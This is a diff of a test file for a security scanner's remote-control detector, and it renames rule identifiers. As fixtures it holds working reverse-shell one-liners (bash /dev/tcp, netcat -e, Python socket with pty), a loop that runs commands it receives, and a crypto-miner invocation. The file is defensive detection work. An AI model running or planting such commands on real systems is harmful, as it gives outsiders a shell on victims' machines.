@@ -4,7 +4,7 @@ import { remoteControl } from "./remote-control.ts";
 
 const of = (path: string, text: string) => signalsOf(remoteControl, { [path]: text });
 
-describe("R06: remote control", () => {
+describe("remote-control: remote control", () => {
   it.each([
     ["bash over TCP", "a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"],
     ["netcat with a program", "a.sh", "#!/bin/bash\nnc 203.0.113.5 4444 -e /bin/sh\n"],
@@ -20,7 +20,7 @@ describe("R06: remote control", () => {
       "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\npty.spawn('sh')\n",
     ],
   ])("blocks a shell handed out by %s", async (_, path, text) => {
-    expect(await of(path, text)).toContain(`R06.reverse_shell conclusive ${path}`);
+    expect(await of(path, text)).toContain(`remote-control.reverse-shell conclusive ${path}`);
   });
 
   it("blocks a loop that takes orders", async () => {
@@ -30,12 +30,12 @@ while True:
     subprocess.run(order, shell=True)
     time.sleep(10)
 `;
-    expect(await of("a.py", script)).toContain("R06.takes_orders conclusive a.py");
+    expect(await of("a.py", script)).toContain("remote-control.takes-orders conclusive a.py");
   });
 
   it("asks about a miner", async () => {
     expect(await of("a.sh", "#!/bin/sh\n./x -o stratum+tcp://pool.example:3333 -u w\n")).toContain(
-      "R06.miner suspicious a.sh",
+      "remote-control.miner suspicious a.sh",
     );
   });
 
